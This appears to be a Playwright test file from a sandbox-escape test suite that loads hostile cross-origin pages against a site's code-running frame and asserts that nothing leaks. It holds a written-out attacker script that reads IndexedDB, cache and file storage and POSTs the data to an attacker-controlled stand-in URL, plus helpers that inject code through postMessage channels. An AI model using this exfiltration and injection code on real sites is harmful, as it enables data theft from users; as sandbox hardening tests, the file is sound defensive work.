/** Hostile pages: another origin frames, opens and posts to the sandbox frame, to run its own script in the site's origin. */
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import type { PageAttempt } from './attempt.ts'
import { hostilePages } from './hostile-pages.ts'
import type { Hosts } from './hosts.ts'
import { secret } from './judge.ts'
import type { PageRun } from './page.ts'
import type { Score } from './suite.ts'

/**
 * The attacker's engine. In an opaque origin it gets nothing; in the site's it reads the log, changes it and says so. Runs
 * as a worker, or as any script of the frame.
 */
export const hostileEngine = `
const steal = async (port) => {
  const found = { origin: self.origin }
  const request = (one) => new Promise((resolve, reject) => { one.onsuccess = () => resolve(one.result); one.onerror = () => reject(one.error) })
  try {
    const store = (await request(indexedDB.open('viva'))).transaction('events', 'readwrite').objectStore('events')
    found.log = await request(store.getAll())
    store.put({ id: 'stolen', canary: 'stolen' })
  } catch (error) { found.error = error.name }
  try { found.cached = await (await caches.match('/canary')).text() } catch {}
  try { found.file = await (await (await (await navigator.storage.getDirectory()).getFileHandle('canary')).getFile()).text() } catch {}
  try { new BroadcastChannel('viva').postMessage('stolen from ' + self.origin) } catch {}
  try { await fetch('STOLEN', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) }) } catch {}
  port?.postMessage({ type: 'stolen', found })
}
addEventListener('message', ({ data }) => steal(data?.port))
void steal()`

/** What every hostile page has: the attack itself, against any window that it has got hold of. */
const tools = `
const reports = []
const tell = (data) => { reports.push(JSON.stringify(data)?.slice(0, 2000)); }
addEventListener('message', ({ data, origin }) => tell({ posted: data, origin }))
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
function attack(target, message = 'viva-runner-port') {
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = ({ data }) => tell(data)
  target.postMessage(message, '*', [port2])
  const guest = new MessageChannel()
  guest.port1.onmessage = ({ data }) => tell(data)
  port1.postMessage({ type: 'engine', engine: 'js', script: engine, assets: {}, modules: [] })
  port1.postMessage({ type: 'spawn', engine: 'js', id: 1, port: guest.port2 }, [guest.port2])
  guest.port1.postMessage({ type: 'load', assets: {} })
  guest.port1.postMessage({ type: 'run', language: 'js', code: engine, setup: '', outputLimitBytes: 1e6 })
}
/** Again and again while the target loads. */
async function siege(target, message) {
  for (let turn = 0; turn < 6; turn++) {
    try { attack(target, message) } catch (error) { tell({ thrown: error.name }) }
    await wait(80)
  }
}
function frame(url, attributes = {}) {
  const one = document.createElement('iframe')
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value)
  one.src = url
  document.body.append(one)
  return new Promise((resolve) => { one.onload = () => resolve(one); setTimeout(resolve, 1500, one) })
}`

/** What the site says instead of running code while another page embeds it. */
const embeddedMessage = 'another site embeds this page'

/** Milliseconds in which the attacker's script would have reported. */
const settleMs = 250

async function openSitePage(context: BrowserContext, hosts: Hosts): Promise<Page> {
  const page = await context.newPage()
  await page.goto(`${hosts.siteOrigin}/`)
  await page.waitForFunction('window.escapes?.isReady')
  await page.evaluate('window.escapes.plant()')
  await page.evaluate(`window.escapes.run({ language: 'js', code: 'console.log(1)' })`)
  return page
}

/** Runs in each window of the site that the attacker opened or framed, and in the reader's own. */
async function forgedRuns(context: BrowserContext, hosts: Hosts): Promise<string[]> {
  const wrong: string[] = []
  for (const frame of context.pages().flatMap((page) => page.frames())) {
    if (!frame.url().startsWith(`${hosts.siteOrigin}/`) || frame.url().includes('/engines/')) continue
    const run = async () => {
      const { result } = await frame.evaluate<PageRun>(
        `window.escapes.run({ language: 'js', code: 'console.log(6 * 7)' })`,
      )
      return result.stopped ? 'stopped' : result.output
    }
    // A frame that was navigated away is noticed: the first run is stopped, the next has a new frame.
    const answer = await Promise.race([
      run().then((first) => (first === 'stopped' ? run() : first)),
      new Promise<string>((resolve) => setTimeout(resolve, 15_000, 'nothing for 15 s')),
    ]).catch((error: unknown) => String(error))
    if (answer !== '42' && !answer.includes(embeddedMessage)) wrong.push(`a run at ${frame.url()} prints ${answer}`)
  }
  return wrong
}

async function runAttempt(attempt: PageAttempt, context: BrowserContext, hosts: Hosts, site: Page): Promise<string[]> {
  const attacker = `http://${attempt.from}:${hosts.attackerPort}`
  const before = await site.evaluate('window.escapes.snapshot()')
  const mark = hosts.attackerLog.length
  const page = await context.newPage()
  await page.goto(`${attacker}/page`)
  const manifest = (await (await fetch(`${hosts.siteOrigin}/engines/manifest.json`)).json()) as {
    frame: { path: string }
  }
  const scope = {
    site: hosts.siteOrigin,
    frameUrl: `${hosts.siteOrigin}/engines/${manifest.frame.path}`,
    attacker,
    engine: hostileEngine.replace('STOLEN', `${attacker}/stolen/${attempt.id}`),
  }
  const constants = Object.entries(scope).map(([name, value]) => `const ${name} = ${JSON.stringify(value)}`)
  const script = `(async () => {\n${constants.join('\n')}\n${tools}
  const late = new Promise((resolve) => setTimeout(resolve, 8_000))
  await Promise.race([late, (async () => {\n${attempt.script}\n})().catch((error) => tell({ thrown: String(error) }))])
  await wait(${settleMs})
  return reports
})()`
  const reports = await page.evaluate<string[]>(script)
  if (process.env.ESCAPES_SHOW) console.log(attempt.id, reports)
  const problems = await forgedRuns(context, hosts)
  const now = await site.evaluate('window.escapes.snapshot()')
  if (now !== before) problems.push(`the site changed: ${String(now).slice(0, 600)}`)
  const stolen = hosts.attackerLog.slice(mark).filter((line) => line.includes('/stolen/'))
  if (stolen.length > 0) problems.push(`the attacker was sent ${stolen.join(', ')}`)
  for (const report of reports) {
    if (report?.includes(secret)) problems.push(`the canary was read: ${report}`)
    if (report?.includes(`"origin":"${hosts.siteOrigin}"`))
      problems.push(`a script ran in the site's origin: ${report}`)
  }
  for (const one of context.pages()) if (one !== site) await one.close()
  return problems
}

export function embedding(open: () => { browser: Browser | undefined; hosts: Hosts }, score: Score): void {
  describe('embedding', () => {
    let context: BrowserContext | undefined
    let site: Page
    const prepare = async () => {
      await context?.close()
      const { browser } = open()
      if (!browser) throw new Error('Hostile pages run in Chromium only.')
      context = await browser.newContext()
      site = await openSitePage(context, open().hosts)
      return context
    }
    before(prepare)
    after(() => context?.close())
    for (const attempt of hostilePages) {
      it(attempt.id, () =>
        score.count('embedding', async () => {
          const problems = await runAttempt(attempt, context ?? (await prepare()), open().hosts, site)
          if (problems.length > 0) await prepare()
          assert.deepEqual([...new Set(problems)], [])
        }),
      )
    }
  })
}
